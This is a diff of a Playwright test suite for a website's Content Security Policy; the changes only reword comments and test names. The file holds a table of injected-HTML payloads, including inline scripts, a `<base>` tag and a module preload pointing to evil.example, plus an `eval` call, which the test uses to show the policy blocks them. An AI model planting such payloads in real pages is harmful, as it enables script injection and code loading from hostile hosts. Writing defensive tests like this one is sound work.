@@ -12,7 +12,7 @@ import {foundLinks, searchField, searchWindow} from './support/search';
 
 const POLICY = /<meta http-equiv=Content-Security-Policy content="[^"]*">/;
 
-/** Every HTML file of the build: redirects and not-found pages are among them. */
+/** All HTML files of the build, including redirects and not-found pages. */
 const files = fs
   .readdirSync(rootSite.dir, {recursive: true, encoding: 'utf8'})
   .filter((file) => file.endsWith('.html') && fs.statSync(path.join(rootSite.dir, file)).isFile())
@@ -20,7 +20,7 @@ const files = fs
 const copied = fs.readdirSync('static', {recursive: true, encoding: 'utf8'});
 const pages = files.filter((file) => !copied.includes(file));
 
-test('every page lists the hashes of exactly its own inline scripts, before the first of them', () => {
+test('the policy of each page has the hashes of its inline scripts and no others, and comes before the first script', () => {
   expect(pages.length).toBeGreaterThan(50);
   for (const file of pages) {
     const html = fs.readFileSync(path.join(rootSite.dir, file), 'utf8');
@@ -50,7 +50,7 @@ async function search(page: Page, query: string) {
   await expect(searchWindow(page)).toBeHidden();
 }
 
-test('a tour through the application violates nothing', async ({page}) => {
+test('nothing in a tour through the application violates the policy', async ({page}) => {
   test.slow();
   const violations = await recordViolations(page);
   const troubles = watch(page);
@@ -65,7 +65,7 @@ test('a tour through the application violates nothing', async ({page}) => {
     const isMove = new URL(page.url()).pathname.replace(/\/$/, '') !== target.replace(/\/$/, '');
     await links.nth(place).click();
     await expect(page).toHaveURL(target);
-    // The URL changes before the page does
+    // The URL changes before the page, so wait for the title
     if (isMove) await expect(page).not.toHaveTitle(title);
     const inside = page.locator(`main a[href^="/"]:not([href="${target}"]):visible`).first();
     if ((await inside.count()) > 0) {
@@ -80,9 +80,7 @@ test('a tour through the application violates nothing', async ({page}) => {
   expectNoTroubles(troubles);
 });
 
-test('text does not become code, in a script or by `eval`, and structured data stays data', async ({
-  page,
-}) => {
+test('the policy blocks `eval` and injected scripts, but not structured data', async ({page}) => {
   await open(page, posts.usual);
   const errors: string[] = [];
   page.on('pageerror', ({name}) => errors.push(name));
@@ -95,7 +93,7 @@ test('text does not become code, in a script or by `eval`, and structured data s
     };
     append('application/ld+json', '{"@type": "Thing"}');
     append('', 'window.hacked = 1');
-    // Playwright's own evaluation is exempt from the policy, a timer is not
+    // The policy does not apply to code that Playwright evaluates, but to timers
     setTimeout(() => eval('window.hacked = 1'));
   });
   await expect.poll(() => errors).toEqual(['EvalError']);
@@ -105,8 +103,8 @@ test('text does not become code, in a script or by `eval`, and structured data s
 const EVIL = 'https://evil.example';
 
 /**
- * HTML that an attacker has put into a page; `NAME` is replaced by its key. Without the policy,
- * each of these runs a script or sends a request to another host.
+ * HTML that an attacker could add to a page. Without the policy, each of these runs a script or sends a
+ * request to a different host. `NAME` is replaced with the key.
  */
 const GADGETS: Readonly<Record<string, string>> = {
   script: '<script>hacked("NAME")</script>',
@@ -128,7 +126,7 @@ const GADGETS: Readonly<Record<string, string>> = {
   'module-fetched-early': `<link rel="modulepreload" href="${EVIL}/NAME.js">`,
 };
 
-/** These change the rest of the page, so each is tested alone. */
+/** More such HTML. Each of these affects the others, so each is tested alone. */
 const ALONE: Readonly<Record<string, string>> = {
   base: `<base href="${EVIL}/">`,
   // The loader would load this as a script
@@ -143,7 +141,7 @@ const TYPES: Readonly<Record<string, string>> = {
   html: 'text/html',
 };
 
-/** Opens a page with gadgets as a server might send it, and returns the names of those that worked. */
+/** Opens a page that contains gadgets, and returns the names of those that worked. */
 async function working(page: Page, gadgets: Readonly<Record<string, string>>, hasPolicy: boolean) {
   const names = new Set<string>();
   await page.exposeFunction('hacked', (name: string) => names.add(name));
@@ -170,11 +168,11 @@ async function working(page: Page, gadgets: Readonly<Record<string, string>>, ha
     await route.fulfill({response, body});
   });
   await page.goto(posts.usual);
-  // Not Playwright's click, which waits for a navigation that the policy stops
+  // Playwright's own click would wait for a navigation that the policy blocks
   for (const gadget of await page.locator('.gadget').all()) {
     await gadget.evaluate((it: HTMLElement) => it.click());
   }
-  // The page itself runs some gadgets at the first action
+  // Some gadgets run at the first action
   await page.mouse.move(1, 1);
   await page.mouse.move(9, 9);
   return names;
@@ -187,7 +185,7 @@ test('injected HTML neither runs code nor sends requests; without the policy it 
   for (const gadgets of [GADGETS, ...alone]) {
     const page = await context.newPage();
     const blocked = await working(page, gadgets, true);
-    // Wait as long as they take without the policy
+    // Wait as long as the gadgets take without the policy
     const names = await working(await context.newPage(), gadgets, false);
     await expect.poll(() => [...names].sort()).toEqual(Object.keys(gadgets).sort());
     await idle(page);
